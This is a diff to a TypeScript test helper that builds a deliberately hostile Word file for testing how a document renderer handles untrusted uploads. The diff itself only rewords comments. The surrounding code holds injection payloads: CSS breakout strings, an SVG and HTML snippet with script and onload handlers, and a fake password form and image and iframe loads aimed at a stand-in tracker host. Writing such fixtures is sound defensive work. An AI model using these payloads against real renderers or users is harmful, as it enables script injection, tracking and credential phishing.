@@ -1,10 +1,10 @@
 import { strToU8, zipSync } from 'fflate';
 import type { Upload } from './support.ts';
 
-/** Where a tracker would wait for whoever opens the file. */
+/** Where a tracker would wait for readers of the file. */
 const tracker = 'http://tracker.example';
 
-/** What somebody would write into a style to get out of it: the raw text is what a careless renderer copies into CSS. */
+/** Attempts to break out of a style: a careless renderer copies the raw text into CSS. */
 const styles = [
   'red; position: fixed; inset: 0; z-index: 2147483647; background: white',
   `red; background-image: url(${tracker}/style.png)`,
@@ -27,7 +27,7 @@ const run = (properties: string, text: string) =>
   `<w:r><w:rPr>${properties}</w:rPr><w:t xml:space="preserve">${text}</w:t></w:r>`;
 const paragraph = (properties: string, runs: string) => `<w:p><w:pPr>${properties}</w:pPr>${runs}</w:p>`;
 
-/** Every value of a style that a renderer may write out. */
+/** Every style value that a renderer may write out. */
 function styled(value: string, at: number): string {
   const v = escaped(value);
   return paragraph(
@@ -56,7 +56,10 @@ const field = (instruction: string) =>
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.escaped=1"><script>parent.escaped=1</script><image href="${tracker}/svg.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${tracker}/frame"/></foreignObject></svg>`;
 const html = `<html><body><script>parent.escaped=1</script><form action="${tracker}"><input type="password"></form></body></html>`;
 
-/** A Word file that tries to get off its paper, to run, to load and to lead away in every way that is known here. */
+/**
+ * A Word file that tries every known way to escape its page, run scripts, load resources and lead readers
+ * away.
+ */
 export function hostileDocx(name = 'hostile.docx'): Upload {
   const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
   const relation = (id: string, type: string, target: string, external = false) =>
